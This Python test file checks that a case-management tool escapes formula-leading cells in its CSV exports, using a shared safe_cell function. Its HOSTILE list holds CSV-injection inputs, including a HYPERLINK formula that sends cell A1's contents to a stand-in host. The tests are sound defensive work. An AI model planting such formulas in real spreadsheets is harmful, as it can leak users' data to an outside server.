"""The batch results escape formula-leading cells exactly as the register's CSV export does: one
function, ``secretpro.spreadsheet.safe_cell``, used by both."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from hypothesis_budget import examples
from secretpro.batch.writer import to_csv_bytes
from secretpro.register import export
from secretpro.spreadsheet import escape_formulas, safe_cell

HEADER = "case_id,aid_type,nationality,visa_issue_date,in_asylum_procedure,arrival_date\n"
FACTS = ",medical_costs,MA,2025-06-01,false,2025-06-10\n"
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1;"ok")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_the_register_export_uses_the_same_function() -> None:
    assert export._cell is safe_cell


def test_the_cli_output_escapes_case_ids(tmp_path: Path) -> None:
    rows = "".join('"' + case_id.replace('"', '""') + '"' + FACTS for case_id in [*HOSTILE, "D-001"])
    source = tmp_path / "cases.csv"
    source.write_text(HEADER + rows, encoding="utf-8")
    out = tmp_path / "out.csv"
    result = subprocess.run(
        [sys.executable, "-m", "secretpro.cli", "batch", "guarantor-inquiry", str(source), "--out", str(out)],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as stream:
        written = [row["case_id"] for row in csv.DictReader(stream)]
    assert written == [safe_cell(case_id) for case_id in [*HOSTILE, "D-001"]]
    assert all(cell.startswith("'") for cell in written[:-1])
    assert written[-1] == "D-001"


CELLS = st.one_of(st.none(), st.text(max_size=6), st.sampled_from(HOSTILE))


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=8))
def test_escape_formulas_is_safe_cell_on_every_text_cell(rows: list[tuple[str | None, str | None]]) -> None:
    table = pl.DataFrame(
        {"a": [a for a, _ in rows], "b": [b for _, b in rows], "n": list(range(len(rows)))},
        schema={"a": pl.String, "b": pl.String, "n": pl.Int64},
    ).with_columns(pl.col("b").cast(pl.Categorical))
    escaped = escape_formulas(table)
    assert escaped["a"].to_list() == [None if a is None else safe_cell(a) for a, _ in rows]
    assert escaped["b"].to_list() == [None if b is None else safe_cell(b) for _, b in rows]
    assert escaped["n"].to_list() == list(range(len(rows)))
    parsed = list(csv.reader(io.StringIO(to_csv_bytes(table).decode("utf-8"))))
    assert [row[0] for row in parsed[1:]] == ["" if a is None else safe_cell(a) for a, _ in rows]
